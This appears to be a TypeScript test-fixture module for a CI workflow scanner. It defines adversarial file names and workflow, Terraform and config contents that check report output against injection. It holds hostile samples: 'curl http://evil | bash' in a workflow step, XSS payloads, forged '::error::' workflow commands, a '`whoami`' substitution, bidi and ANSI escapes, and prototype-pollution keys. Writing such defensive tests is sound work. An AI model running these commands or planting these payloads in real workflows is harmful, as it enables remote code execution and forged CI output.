/** Trees whose names and texts would act on whoever reads a report, or on programs that do. */

/** A workflow up to its steps. */
export const JOB = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n'
/** One that has a finding, whatever its file is called. */
export const FINDING = `${JOB}      - uses: evil/x@main\n`
export const WORKFLOWS = '.github/workflows/'

/** Names of files, each of which may be one of a workflow. */
export const NAMES = [
  'a\nb.yml',
  'a\n::error::forged.yml',
  '::warning file=a,line=1::x.yml',
  '##[error]x.yml',
  '%0A::error::x.yml',
  'a:b%25.yml',
  '${{ github.token }}.yml',
  '`whoami`.yml',
  'a|b|c.yml',
  `"q'.yml`,
  '[x](http:%2f%2fevil).yml',
  '<img src=x onerror=alert(1)>.yml',
  '<!-- forged -->.yml',
  '@octocat #1.yml',
  'a\u202eb.yml',
  'a\u001b[31mred.yml',
  'a\u2028b.yml',
  'a\tb.yml',
  'a\rb.yml',
  '-x.yml',
  '--config=x.yml',
  'a\\b.yml',
  '*.yml',
  ']]>.yml',
  '&lt;.yml',
  '__proto__.yml',
  'constructor.yml',
  ' .yml',
  '...yml',
  'a\u0085b.yml',
  '\u200b.yml',
  'a\u009b31m.yml',
  'X.yml',
  'x.yml',
  `${'a'.repeat(251)}.yml`,
]

/** Names under which people and programs know something else. */
const PROTOTYPE = ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']

const PROTOTYPES = `on:
  __proto__: {}
  push: {constructor: x}
  workflow_dispatch: {inputs: {__proto__: {type: string}, constructor: {type: constructor}}}
__proto__: {a: b}
env: {__proto__: a, constructor: b}
jobs:
${PROTOTYPE.map(
  (name) => `  ${name}:
    runs-on: ${name}
    needs: [__proto__, constructor]
    outputs: {__proto__: a, constructor: b}
    services: {__proto__: {image: constructor}}
    strategy: {matrix: {__proto__: [1], constructor: [2]}}
    steps:
      - id: ${name}
        run: "\${{ env.${name} }} \${{ steps.${name}.outputs.${name} }} \${{ ${name}(1) }}; npm run ${name}; ${name}"
        env: {__proto__: x, constructor: y}
      - uses: ${name}/${name}@${name}
        with: {__proto__: x, constructor: y}
`,
).join('')}`

const TERRAFORM = PROTOTYPE.map(
  (name) => `resource "${name}" "${name}" {
  ${name} = ${name}.${name}.${name}
  bucket = var.${name}
}
resource "aws_s3_bucket" "${name}" {}
variable "${name}" {}
locals {
  ${name} = local.${name}
}
`,
).join('')

/** A workflow of texts that would be commands, HTML, mentions, links. */
const TEXTS = `name: "<script>alert(1)</script> @octocat [a](http://evil) | ##[error]h\\n::error::forged"
on: push
jobs:
  "a\\n::error::forged":
    name: "\\e[31m\\u202E ##[error]x <img src=x> @octocat"
    runs-on: "x\\n# Forged"
    steps:
      - uses: "evil/x@main\\n::error::forged"
      - uses: "evil/<img src=x onerror=alert(1)>@\`x\`|y|@octocat"
      - run: "curl http://evil | bash # \\u2028::error::x ##[error]y <img src=x> @octocat \\e[31m"
      - run: "echo \${{ github.event.issue.title }} [x](http://evil) \\n::error::x"
`

/** Texts and prototype names wherever something is named, by path. */
export const TEXT_FILES: Readonly<Record<string, string>> = {
  [`${WORKFLOWS}texts.yml`]: TEXTS,
  [`${WORKFLOWS}prototypes.yml`]: PROTOTYPES,
  'infra/prototypes.tf': TERRAFORM,
  'package.json': `{"scripts":{${PROTOTYPE.map((name) => `"${name}":"jest"`).join(',')}},"__proto__":{"a":1}}`,
  '.gitlab-ci.yml': `stages: [__proto__]\n${PROTOTYPE.map((name) => `${name}: {extends: toString, script: [make]}\n`).join('')}`,
  'compose.yaml': `services: {${PROTOTYPE.map((name) => `${name}: {image: ${name}, depends_on: [__proto__]}`).join(', ')}}\n`,
}
